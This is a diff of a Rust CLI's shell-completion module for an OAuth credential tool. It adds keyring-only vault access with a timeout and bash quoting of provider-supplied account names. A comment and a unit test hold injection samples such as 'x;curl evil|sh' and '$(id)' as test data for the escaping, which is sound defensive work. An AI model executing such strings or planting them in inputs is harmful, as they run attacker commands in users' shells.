@@ -7,15 +7,17 @@
 use std::ffi::OsStr;
 use std::io::Write;
 use std::path::Path;
+use std::sync::OnceLock;
+use std::time::Duration;
 
 use clap::CommandFactory;
 use clap_complete::engine::{ArgValueCompleter, CompletionCandidate};
 use clap_complete::env::Shells;
 use clap_complete::CompleteEnv;
-use oauth_desk_core::vault::Create;
+use oauth_desk_core::vault::{Create, OsKeyring, Unlock, Vault};
 use oauth_desk_core::{providers, vault, Error, Result};
 
-use crate::args::{Cli, Global};
+use crate::args::Cli;
 
 /// The variable the scripts set when they call back; an unusual name, so that nobody's
 /// environment sets it by chance.
@@ -27,8 +29,20 @@ const BIN: &str = "oauth-desk";
 /// Commands whose NAME is a new provider's, which no completion can know.
 const NEW_NAMES: &[&str] = &["add"];
 
+/// How long Tab waits for the vault's names before offering the rest without them.
+const NAMES_TIME_LIMIT: Duration = Duration::from_millis(1500);
+
+/// The shell that called back (clap's engine removes the variable before the completers run).
+static SHELL: OnceLock<String> = OnceLock::new();
+
 /// When the shell calls back, completes the line and exits; otherwise returns at once.
 pub fn answer_shell() {
+    // Only the scripts' call, `oauth-desk -- WORDS...`: a variable left exported by mistake
+    // must not turn every run of the command into a completion.
+    if std::env::args_os().nth(1).as_deref() != Some(OsStr::new("--")) {
+        return;
+    }
+    let _ = SHELL.set(std::env::var(VAR).unwrap_or_default());
     CompleteEnv::with_factory(command)
         .var(VAR)
         .bin(BIN)
@@ -62,26 +76,53 @@ fn with_vault_names(cmd: clap::Command) -> clap::Command {
     cmd
 }
 
-/// The vault named by OAUTH_DESK_VAULT or the default, opened only if that needs no question:
-/// a completion never prompts, and says nothing when it cannot look.
-fn vault_names(pick: impl Fn(&vault::Vault) -> Result<Vec<String>>) -> Vec<String> {
-    let global = Global {
-        vault: std::env::var_os("OAUTH_DESK_VAULT").map(Into::into),
-        passphrase_stdin: false,
-    };
-    crate::unlock::open(&global, Create::Never)
-        .and_then(|v| pick(&v))
-        .unwrap_or_default()
+/// The vault named by OAUTH_DESK_VAULT or the default, opened through the keyring only (never
+/// a passphrase: a key derivation on every Tab) and given up after a moment (a keyring that
+/// does not answer, a re-key holding the vault): a completion never asks, never waits long,
+/// and says nothing when it cannot look.
+fn vault_names(pick: fn(&Vault) -> Result<Vec<String>>) -> Vec<String> {
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let names = std::env::var_os("OAUTH_DESK_VAULT")
+            .filter(|p| !p.is_empty())
+            .map(|p| Ok(p.into()))
+            .unwrap_or_else(vault::default_path)
+            .and_then(|path| Vault::open(&path, Unlock::Keyring, &OsKeyring, Create::Never))
+            .and_then(|v| pick(&v))
+            .unwrap_or_default();
+        let _ = tx.send(names);
+    });
+    rx.recv_timeout(NAMES_TIME_LIMIT).unwrap_or_default()
 }
 
 fn candidates(names: Vec<String>, current: &OsStr) -> Vec<CompletionCandidate> {
     let current = current.to_string_lossy();
-    let mut names: Vec<String> = names
-        .into_iter()
-        .filter(|n| n.starts_with(current.as_ref()))
-        .collect();
+    let bash = SHELL.get().is_some_and(|s| s == "bash");
+    // bash puts a candidate on the line as it is: a quote opened there is not part of the name.
+    let typed = if bash {
+        current.trim_start_matches('\'')
+    } else {
+        current.as_ref()
+    };
+    let mut names: Vec<String> = names.into_iter().filter(|n| n.starts_with(typed)).collect();
     names.dedup();
-    names.into_iter().map(CompletionCandidate::new).collect()
+    names
+        .into_iter()
+        .map(|n| if bash { bash_word(&n) } else { n })
+        .map(CompletionCandidate::new)
+        .collect()
+}
+
+/// `name` as one bash word. bash inserts a completion unquoted, and account labels come from
+/// the provider: `x;curl evil|sh` must reach the line as text, not as commands. zsh and fish
+/// quote what they insert themselves.
+fn bash_word(name: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "._@+:,/=-".contains(c);
+    if !name.is_empty() && name.chars().all(plain) {
+        name.to_owned()
+    } else {
+        format!("'{}'", name.replace('\'', r"'\''"))
+    }
 }
 
 fn provider_names(current: &OsStr) -> Vec<CompletionCandidate> {
@@ -141,4 +182,19 @@ pub fn man_pages(dir: &Path) -> Result<()> {
     std::fs::create_dir_all(dir).map_err(|e| Error::io("creating the manual's folder", e))?;
     clap_mangen::generate_to(Cli::command(), dir)
         .map_err(|e| Error::io("writing the manual pages", e))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn bash_gets_every_name_as_one_inert_word() {
+        assert_eq!(bash_word("alice@example.test"), "alice@example.test");
+        assert_eq!(bash_word("Test IdP"), "'Test IdP'");
+        assert_eq!(bash_word("x;curl evil|sh"), "'x;curl evil|sh'");
+        assert_eq!(bash_word("it's"), r"'it'\''s'");
+        assert_eq!(bash_word("$(id)"), "'$(id)'");
+        assert_eq!(bash_word("*"), "'*'");
+    }
 }
